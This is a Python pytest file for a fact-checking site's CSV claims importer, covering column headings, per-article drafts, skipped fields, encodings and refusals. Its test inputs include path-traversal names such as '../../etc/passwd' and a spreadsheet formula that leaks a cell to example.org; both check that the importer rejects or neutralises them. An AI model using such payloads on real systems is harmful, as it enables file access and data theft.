"""A table of claims: each row a claim of the article that it names."""

from __future__ import annotations

import pytest

from generator.annotating.values import Value
from generator.importing.claims_table import read_claims_table
from generator.importing.imported import Draft, ImportedAnnotation, LeftOut, NotImported
from tests.importing.options import OPTIONS, drafts, one_draft, problems_of, sidecar_of
from tests.importing.test_any_file import TABLE


def read(text: str) -> Draft:
    return one_draft(read_claims_table(text.encode(), OPTIONS))


def fields(text: str) -> dict[str, object]:
    return dict(read(text).annotations[0].fields)


def test_a_row_of_the_archives_own_table_becomes_its_claim():
    draft = read(TABLE)
    expected: dict[str, Value] = {
        "quote": "built in 1901", "speaker": "the-mayor", "verdict": "false", "note": "Why.",
        "tags": ["bridges", "rivers"], "said": "2026-02-27", "reviewed": "2026-03-01", "codes": {"frame": "conflict"},
    }  # fmt: skip
    assert draft.annotations == (ImportedAnnotation("claims", expected, "old"),)
    assert (draft.article, draft.speakers) == ("2026/bridge", {"the-mayor": {"name": "The mayor"}})
    assert (draft.left_out, draft.notices) == ((), ())
    assert problems_of(sidecar_of(draft)) == []


def test_a_text_is_a_quote_only_where_the_table_says_so():
    assert fields("text,speaker_id\nIt is old.,harbour\n") == {"statement": "It is old.", "speaker": "harbour"}
    assert fields("text,quoted,speaker_id\nIt is old.,TRUE,harbour\n") == {"quote": "It is old.", "speaker": "harbour"}


def test_a_quote_may_have_context_and_a_statement_beside_it():
    found = fields("quote,prefix,suffix,statement,speaker\nis old,bridge,,It is old.,Harbour Board\n")
    assert found == {"quote": {"exact": "is old", "prefix": "bridge"}, "statement": "It is old.", "speaker": "harbour"}


@pytest.mark.parametrize("heading", ["claimReviewed", "claim_reviewed", "Claim", "claim text", "STATEMENT"])
def test_headings_of_other_programs_are_understood(heading):
    assert fields(f"{heading},speaker_id\nIt is old.,harbour\n")["statement"] == "It is old."


def test_there_is_a_draft_for_each_article():
    text = "statement,article,speaker_id\none,2026/a,harbour\ntwo,2026/b,harbour\nthree,2026/a,harbour\nfour,,harbour\n"
    found = drafts(read_claims_table(text.encode(), OPTIONS))
    assert [(one.article, len(one.annotations)) for one in found] == [("2026/a", 2), ("2026/b", 1), ("", 1)]


@pytest.mark.parametrize("article", ["../../etc/passwd", "/etc/passwd", "a:b", "CON", "a\\b", "_x"])
def test_an_article_that_can_be_none_is_left_out(article):
    draft = read(f'statement,article,speaker_id\none,"{article}",harbour\n')
    assert draft.article == ""
    assert draft.left_out == (LeftOut(article, "name of an article that can't be an id"),)


def test_what_the_site_does_not_know_is_left_out_by_line():
    draft = read(
        "statement,speaker_id,verdict,code_frame,said,colour\none,harbour,Pants on fire,blame,12/11/2026,red\n"
    )
    assert dict(draft.annotations[0].fields) == {
        "statement": "one", "speaker": "harbour", "unsure": "rated “Pants on fire” elsewhere",
    }  # fmt: skip
    assert draft.left_out == (
        LeftOut("said: 12/11/2026", "date that is not in the form `2015-12-23`", 2),
        LeftOut("code_frame: blame", "value that is not in the coding scheme of `frame`", 2),
        LeftOut("colour: red", "column that is not known", 2),
    )


def test_rows_without_words_are_left_out_and_rows_without_a_speaker_named():
    draft = read('statement,note\none,\n,"Only\na note"\n' + "two,\n" * 7)
    assert draft.left_out == (LeftOut("Only\na note", "row without the words of a claim", 3),)
    assert draft.notices == (
        "These lines name no speaker: 2, 5, 6, 7, 8 and 3 more. Add the speakers of their claims.",
    )
    assert draft.annotations[0].fields["speaker"] == {"unnamed": "not named in the imported file"}


def test_a_formula_stays_text():
    formula = '=HYPERLINK("https://example.org?leak="&A1)'
    assert fields(f'statement,speaker_id\n"{formula.replace(chr(34), chr(34) * 2)}",harbour\n')["statement"] == formula


def test_a_table_in_an_older_encoding_is_read_and_said_to_be():
    draft = one_draft(read_claims_table("statement,speaker_id\n“Déjà vu”,harbour\n".encode("cp1252"), OPTIONS))
    assert draft.annotations[0].fields["statement"] == "“Déjà vu”"
    notice = "The file is not UTF-8 and was read as Windows-1252: check the letters with accents."
    assert draft.notices == (notice,)


def test_a_table_without_words_is_refused_with_its_headings():
    assert read_claims_table(b"url,title\na,b\n", OPTIONS) == NotImported(
        "The table has no column with the words of its claims, only url and title.",
        "Give the column of words the heading `quote` (those of the article) or `statement` (your own).",
        1,
    )
